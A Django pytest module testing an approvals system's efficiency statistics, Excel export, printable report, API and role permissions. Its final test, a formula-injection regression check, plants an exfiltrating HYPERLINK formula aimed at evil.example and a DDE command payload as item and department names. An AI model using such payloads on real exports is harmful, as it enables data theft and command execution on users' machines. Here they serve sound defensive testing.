"""Efficiency analysis (效能分析): figures, pages, Excel export, printout, API, permissions, query counts."""

from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from approvals import efficiency, services
from approvals.efficiency import Period
from monitoring.alerts import raise_alert
from monitoring.choices import AlertKind, AlertLevel
from portal import roles
from portal.tokens import issue_token
from tests.approvals.factories import at
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

PAGE = reverse("approvals:efficiency")
EXPORT = reverse("approvals:efficiency_export")
PRINT = reverse("approvals:efficiency_print")
API = "/api/v1/efficiency/"


def complete(centre, case, day, *, receipt):
    """Fee and completion (办结) of a decided case on ``day`` (March 2025)."""
    services.record_fee(case, by=centre.clerk, amount="50", receipt_no=receipt)
    return services.complete_case(case, by=centre.clerk, now=day)


def run_to_decision(centre, case):
    case = services.advance_step(case, by=centre.acceptor, opinion="材料齐全", now=at(2025, 3, 10))
    case = services.advance_step(case, by=centre.reviewer, opinion="符合条件", now=at(2025, 3, 11))
    return services.decide_case(case, by=centre.approver, decision="approve", now=at(2025, 3, 12))


@pytest.fixture
def cases(centre):
    """Cases of item FW-XK-SCJG-0001 (statutory 20, promised 10 working days), accepted on Mon 2025-03-03.

    - early: completed 03-07, 4 working days;
    - on_promise: completed 03-17, exactly the promised 10 (not early, within both limits);
    - suspended: 3 days of expert review (03-04 → 03-07), completed 03-14: 9 - 3 = 6 days, early;
    - late: completed 04-01, 21 days (> 20 statutory), with two reminders and one overdue alarm;
    - an open case, which does not count.
    """
    early, _ = centre.decided()
    early = complete(centre, early, at(2025, 3, 7), receipt="R-1")
    on_promise, _ = centre.decided()
    on_promise = complete(centre, on_promise, at(2025, 3, 17), receipt="R-2")
    suspended, _ = centre.accepted()
    services.suspend_case(
        suspended, by=centre.acceptor, kind="expert_review", reason="专家评审", now=at(2025, 3, 4)
    )
    services.resume_case(suspended, by=centre.acceptor, now=at(2025, 3, 7))
    suspended.refresh_from_db()
    suspended = complete(centre, run_to_decision(centre, suspended), at(2025, 3, 14), receipt="R-3")
    late, _ = centre.decided()
    late = complete(centre, late, at(2025, 4, 1), receipt="R-4")
    for n in (1, 2):
        raise_alert(
            late,
            kind=AlertKind.REMINDER,
            level=AlertLevel.YELLOW,
            title="临近时限",
            rule="t",
            occurrence=str(n),
        )
    raise_alert(late, kind=AlertKind.OVERDUE, level=AlertLevel.RED, title="已超时", rule="t", occurrence="x")
    centre.accepted()  # still open
    return {"early": early, "on_promise": on_promise, "suspended": suspended, "late": late}


def test_completion_stores_working_days_used(cases):
    used = {name: case.working_days_used for name, case in cases.items()}
    assert used == {"early": 4, "on_promise": 10, "suspended": 6, "late": 21}
    assert cases["suspended"].suspended_days == 3


def test_figures_of_a_year(centre, cases):
    [row] = efficiency.by_department(Period(2025))
    assert (row.name, row.completed, row.measured) == (centre.department.name, 4, 4)
    assert row.avg_used == pytest.approx(41 / 4)
    assert (row.avg_statutory, row.avg_promised) == (20, 10)
    assert (row.early, row.within_promised, row.within_statutory, row.late) == (2, 3, 3, 1)
    assert (row.early_rate, row.on_time_rate, row.late_rate) == (0.5, 0.75, 0.25)
    assert (row.suspension_days, row.suspended_cases, row.avg_suspended_days) == (3, 1, 0.75)
    assert (row.reminders, row.alarms, row.reminders_per_100, row.alarms_per_100) == (2, 1, 50, 25)
    [item] = efficiency.by_item(Period(2025))
    assert (item.item_id, item.code, item.completed, item.early) == (centre.item.pk, "FW-XK-SCJG-0001", 4, 2)


def test_months_and_comparisons(centre, cases):
    march = efficiency.totals(Period(2025, 3))
    assert (march.completed, march.early, march.late, march.alarms) == (3, 2, 0, 0)
    report = efficiency.report(Period(2025, 4))
    assert report.total.completed == 1 and report.total.late_rate == 1
    assert [(label, p.label, f.completed) for label, p, f in report.comparisons] == [
        ("上月", "2025年3月", 3),
        ("上年同月", "2024年4月", 0),
    ]
    assert [f.completed for _m, f in report.trend][2:4] == [3, 1]
    assert efficiency.totals(Period(2025, 5)).completed == 0
    assert efficiency.totals(Period(2025), department=centre.other).completed == 0


def test_parallel_subcases_do_not_count(centre, cases):
    case, _ = centre.accepted()
    [sub] = services.open_parallel(case, by=centre.acceptor, departments=[centre.other], now=at(2025, 3, 4))
    services.complete_subcase(sub, by=centre.other_staff, opinion="同意", agree=True, now=at(2025, 3, 5))
    assert efficiency.totals(Period(2025)).completed == 4


# --- pages ---------------------------------------------------------------------------------------


def test_page_shows_departments_and_the_chosen_department_items(client, centre, cases):
    client.force_login(centre.inspector)
    response = client.get(PAGE, {"year": 2025})
    assert response.status_code == 200
    page = response.content.decode()
    assert centre.department.name in page and "合计" not in page  # one department: no totals row
    assert f"department={centre.department.pk}" in page and "按事项" not in page
    response = client.get(PAGE, {"year": 2025, "month": 3, "department": centre.department.pk})
    page = response.content.decode()
    assert "按事项" in page and centre.item.name in page and "2025年3月" in page
    assert response.context["report"].total.completed == 3


def test_bad_filter_is_refused_with_a_reason(client, centre):
    client.force_login(centre.inspector)
    response = client.get(PAGE, {"year": "abc"})
    assert response.status_code == 400 and "统计条件有误" in response.content.decode()
    assert client.get(EXPORT, {"year": 2025, "month": 13}).status_code == 400


def test_excel_export(client, centre, cases):
    client.force_login(centre.inspector)
    response = client.get(EXPORT, {"year": 2025})
    assert response.status_code == 200 and response["Content-Type"].startswith("application/vnd.openxml")
    assert "attachment" in response["Content-Disposition"]
    book = load_workbook(BytesIO(response.content))
    assert book.sheetnames == ["按单位", "按事项"]
    sheet = book["按单位"]
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["单位编码", "单位名称", "层级", "办结件数"]
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert [r[:4] for r in rows] == [["SCJG", centre.department.name, "市级", 4], [None, "合计", None, 4]]
    early_rate = header.index("提前办结率")
    assert rows[0][early_rate] == 0.5 and sheet.cell(row=2, column=early_rate + 1).number_format == "0.0%"
    assert rows[0][header.index("超时报警/百件")] == 25
    items = [[c.value for c in row] for row in book["按事项"].iter_rows(min_row=2)]
    assert [r[:5] for r in items] == [
        [centre.department.name, "FW-XK-SCJG-0001", centre.item.name, "申请", 4]
    ]


def test_printable_page(client, centre, cases):
    client.force_login(centre.inspector)
    response = client.get(PRINT, {"year": 2025, "department": centre.department.pk})
    page = response.content.decode()
    assert response.status_code == 200
    for text in (
        "效能分析报告",
        "统计单位",
        centre.department.name,
        "2025年",
        "生成时间",
        "data-print",
        "efficiency.css",
    ):
        assert text in page
    assert centre.item.name in page


# --- who sees what ----------------------------------------------------------------------------------


def test_anonymous_is_sent_to_log_in_and_clerks_and_handlers_are_refused(client, centre):
    response = client.get(PAGE)
    assert response.status_code == 302 and "login" in response["Location"]
    for user in (centre.clerk, centre.acceptor):
        client.force_login(user)
        for url in (PAGE, EXPORT, PRINT):
            assert client.get(url).status_code == 403


def test_appraisal_office_and_administrators_see_every_department(client, centre, cases):
    for role in (roles.APPRAISER, roles.ADMINISTRATOR):
        client.force_login(UserFactory(roles=[role]))
        response = client.get(PAGE, {"year": 2025, "department": centre.other.pk})
        assert response.status_code == 200 and response.context["report"].department == centre.other


def test_department_head_sees_only_their_department(client, centre, cases):
    client.force_login(centre.approver)  # head of SCJG
    response = client.get(PAGE, {"year": 2025, "department": centre.other.pk})
    assert response.status_code == 200
    report = response.context["report"]
    assert report.department == centre.department and report.total.completed == 4
    other_head = UserFactory(roles=[roles.DEPT_HEAD], department=centre.other)
    client.force_login(other_head)
    assert client.get(PAGE, {"year": 2025}).context["report"].total.completed == 0


# --- API -----------------------------------------------------------------------------------------


def test_api_rows_for_an_integrator_token(centre, cases, integrator):
    _token, raw = issue_token(integrator, name="大屏")
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {raw}")
    data = api.get(API, {"year": 2025}).json()
    assert data["group"] == "department" and data["month"] is None
    [row] = data["rows"]
    assert (row["name"], row["completed"], row["early_rate"], row["alarms_per_100"]) == (
        centre.department.name, 4, 0.5, 25.0,
    )  # fmt: skip
    assert data["total"]["completed"] == 4
    items = api.get(API, {"year": 2025, "month": 3, "group": "item"}).json()
    assert [(r["code"], r["completed"], r["kind"]) for r in items["rows"]] == [
        ("FW-XK-SCJG-0001", 3, "application")
    ]
    assert api.get(API, {"group": "post"}).status_code == 400
    assert api.get(API, {"year": 1900}).status_code == 400


def test_api_refuses_clerks_and_anonymous_and_scopes_heads(centre, cases):
    assert APIClient().get(API).status_code in (401, 403)
    api = APIClient()
    api.force_authenticate(centre.clerk)
    assert api.get(API).status_code == 403
    head = UserFactory(roles=[roles.DEPT_HEAD], department=centre.other)
    api.force_authenticate(head)
    assert api.get(API, {"year": 2025}).json()["rows"] == []


# --- cost ----------------------------------------------------------------------------------------


def _queries(client, url, params) -> int:
    with CaptureQueriesContext(connection) as ctx:
        assert client.get(url, params).status_code == 200
    return len(ctx.captured_queries)


def test_query_count_does_not_grow_with_cases(client, centre):
    client.force_login(centre.inspector)
    first, _ = centre.decided()
    complete(centre, first, at(2025, 3, 7), receipt="R-1")
    params = {"year": 2025, "department": centre.department.pk}
    counts = {url: _queries(client, url, params) for url in (PAGE, PRINT, EXPORT)}
    for n in range(2, 6):
        case, _ = centre.decided()
        case = complete(centre, case, at(2025, 3, 7 + n), receipt=f"R-{n}")
        raise_alert(
            case, kind=AlertKind.REMINDER, level=AlertLevel.YELLOW, title="提示", rule="t", occurrence=str(n)
        )
    assert {url: _queries(client, url, params) for url in (PAGE, PRINT, EXPORT)} == counts
    assert counts[PAGE] <= 12


def test_migration_backfills_working_days_used(cases):
    from importlib import import_module

    from django.apps import apps

    from approvals.models import Case

    Case.objects.update(working_days_used=None)
    import_module("approvals.migrations.0002_case_working_days_used").backfill(apps, None)
    used = dict(Case.objects.filter(completed_at__isnull=False).values_list("pk", "working_days_used"))
    assert used == {case.pk: case.working_days_used for case in cases.values()}


def test_excel_export_writes_a_formula_named_power_as_text(client, centre, cases):
    """Hole 5 of the security test: a name starting with = was a live formula in the export."""
    name = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    centre.item.name = name
    centre.item.save()
    centre.department.name = "+cmd|' /C calc'!A0"
    centre.department.save()
    client.force_login(centre.inspector)
    book = load_workbook(BytesIO(client.get(EXPORT, {"year": 2025}).content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f" or c.value.startswith(("=", "+", "-", "@"))]
    assert "'" + name in [c.value for c in cells]
